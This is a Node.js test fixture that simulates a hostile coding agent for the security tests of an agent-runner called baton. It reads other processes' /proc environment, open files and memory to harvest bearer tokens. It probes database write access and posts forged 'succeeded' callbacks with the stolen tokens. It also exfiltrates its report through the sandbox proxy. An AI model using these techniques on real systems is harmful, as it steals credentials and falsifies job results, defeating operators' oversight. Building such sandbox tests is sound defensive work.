#!/usr/bin/env node
// A hostile agent, for the security tests: it tries what an agent (or a repository's build) did
// to baton once, reports what it saw, then ends like Claude Code (stream-json result).
//
//   node spy-agent.mjs --targets <file.json> [prompt…]
//
// targets: {
//   pids?: number[]            processes to read (/proc/<pid>/environ, cmdline): baton serve
//   paths?: string[]           files and directories to read or list: data dir, database, config,
//                              another run's workspace
//   writable?: string[]        files to open for writing (the SQLite database)
//   callbackUrls?: string[]    completion URLs to post a forged "succeeded" to, with every token found
//   inspect?: string           processes working in a directory under this path (the runners of
//                              a data directory) have their open files and memory searched
//   reportFile?: string        where to write the report (e.g. /workspace/spy-report.json)
//   reportUrl?: string         where to POST the report
//   hangIssues?: string[]      ISSUE_NUMBERs for which it is a harmless victim that waits until stopped
// }
//
// The report: { env, processes, reads, writes, tokens, callbacks }. Each read is
// { target, ok, error?, text? } with the text read (cut), so a test sees exactly what leaked.
import fs from 'node:fs';
import http from 'node:http';

const args = process.argv.slice(2);
const targets = JSON.parse(fs.readFileSync(args[args.indexOf('--targets') + 1], 'utf8'));
const session = 'spy-session';
const emit = (m) => process.stdout.write(`${JSON.stringify(m)}\n`);
emit({ type: 'system', subtype: 'init', session_id: session, cwd: process.cwd(), tools: [], model: 'spy' });

if ((targets.hangIssues ?? []).includes(process.env.ISSUE_NUMBER ?? '')) {
  setInterval(() => {}, 1 << 30);
} else {
  const report = await spy();
  const text = JSON.stringify(report);
  if (targets.reportFile) fs.writeFileSync(targets.reportFile, text);
  if (targets.reportUrl) await postReport(targets.reportUrl, text).catch(() => {});
  emit({ type: 'result', subtype: 'success', is_error: false, num_turns: 1, session_id: session, result: 'spy finished' });
}

async function spy() {
  const report = {
    pid: process.pid,
    uid: process.getuid(),
    env: Object.keys(process.env).sort(),
    processes: [],
    reads: [],
    writes: [],
    tokens: [],
    callbacks: [],
  };
  const tokens = new Set();
  const collect = (text) => {
    for (const m of text.matchAll(/(?:CALLBACK_TOKEN=|Bearer )([A-Za-z0-9_-]{20,})/g)) tokens.add(m[1]);
  };
  collect(
    Object.entries(process.env)
      .map(([k, v]) => `${k}=${v}`)
      .join('\n'),
  );

  const read = (target) => {
    try {
      const stat = fs.statSync(target);
      const text = stat.isDirectory() ? fs.readdirSync(target).join('\n') : head(target);
      collect(text);
      report.reads.push({ target, ok: true, text: text.slice(0, 4000) });
    } catch (err) {
      report.reads.push({ target, ok: false, error: err.code ?? String(err) });
    }
  };

  for (const pid of targets.pids ?? []) {
    read(`/proc/${pid}/environ`);
    read(`/proc/${pid}/cmdline`);
  }
  // Every process this agent can see: its environment, command line, open files, and memory.
  for (const entry of fs.readdirSync('/proc').filter((e) => /^\d+$/.test(e))) {
    const pid = Number(entry);
    let cmdline = '';
    try {
      cmdline = fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0').join(' ').trim();
    } catch {
      continue;
    }
    report.processes.push({ pid, cmdline });
    if (pid === process.pid) continue;
    read(`/proc/${pid}/environ`);
    let cwd = '';
    try {
      cwd = fs.readlinkSync(`/proc/${pid}/cwd`);
    } catch {
      continue;
    }
    if (!targets.inspect || !cwd.startsWith(targets.inspect)) continue;
    try {
      for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
        try {
          const link = fs.readlinkSync(`/proc/${pid}/fd/${fd}`);
          if (link.startsWith('/')) read(`/proc/${pid}/fd/${fd}`);
        } catch {
          // Closed meanwhile.
        }
      }
    } catch {
      // Not ours to see.
    }
    scanMemory(pid, collect, report);
  }
  for (const target of targets.paths ?? []) read(target);
  for (const target of targets.writable ?? []) {
    try {
      fs.closeSync(fs.openSync(target, 'r+'));
      report.writes.push({ target, ok: true });
    } catch (err) {
      report.writes.push({ target, ok: false, error: err.code ?? String(err) });
    }
  }

  report.tokens = [...tokens];
  for (const url of targets.callbackUrls ?? []) {
    for (const token of report.tokens) {
      try {
        const res = await fetch(url, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({
            status: 'succeeded',
            exitCode: 0,
            summary: 'forged by the spy',
            usage: null,
            costUsd: null,
            durationMs: 1,
          }),
        });
        report.callbacks.push({ url, status: res.status });
      } catch (err) {
        report.callbacks.push({ url, error: String(err) });
      }
    }
  }
  return report;
}

/**
 * POSTs the report as a proxy-aware tool would: through http_proxy when the run has one (a gated
 * sandbox has no other way out; Node's fetch ignores proxy variables), else directly.
 */
function postReport(url, text) {
  const proxy = process.env.http_proxy ? new URL(process.env.http_proxy) : null;
  const target = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: proxy ? proxy.hostname : target.hostname,
        port: proxy ? proxy.port : target.port,
        path: proxy ? target.href : `${target.pathname}${target.search}`,
        method: 'POST',
        headers: { host: target.host, 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) },
      },
      (res) => {
        res.resume();
        res.on('end', resolve);
      },
    );
    req.on('error', reject);
    req.end(text);
  });
}

/** The first MiB of a file (a process may hold huge files open). */
function head(file) {
  const fd = fs.openSync(file, 'r');
  try {
    const buffer = Buffer.alloc(1024 * 1024);
    const n = fs.readSync(fd, buffer, 0, buffer.length, null);
    return buffer.toString('latin1', 0, n);
  } finally {
    fs.closeSync(fd);
  }
}

/** Reads another process's writable memory (as a debugger would) looking for bearer tokens. */
function scanMemory(pid, collect, report) {
  let maps;
  try {
    maps = fs.readFileSync(`/proc/${pid}/maps`, 'latin1');
  } catch (err) {
    report.reads.push({ target: `/proc/${pid}/maps`, ok: false, error: err.code ?? String(err) });
    return;
  }
  let fd;
  try {
    fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  } catch (err) {
    report.reads.push({ target: `/proc/${pid}/mem`, ok: false, error: err.code ?? String(err) });
    return;
  }
  let bytes = 0;
  try {
    for (const line of maps.split('\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw-p/.exec(line);
      if (!m) continue;
      const start = parseInt(m[1], 16);
      const length = Math.min(parseInt(m[2], 16) - start, 64 * 1024 * 1024);
      if (bytes > 512 * 1024 * 1024) break;
      const buffer = Buffer.alloc(length);
      try {
        const n = fs.readSync(fd, buffer, 0, length, start);
        bytes += n;
        collect(buffer.toString('latin1', 0, n));
      } catch {
        // Unreadable region.
      }
    }
  } finally {
    fs.closeSync(fd);
  }
  report.reads.push({ target: `/proc/${pid}/mem`, ok: true, text: `${bytes} bytes scanned` });
}
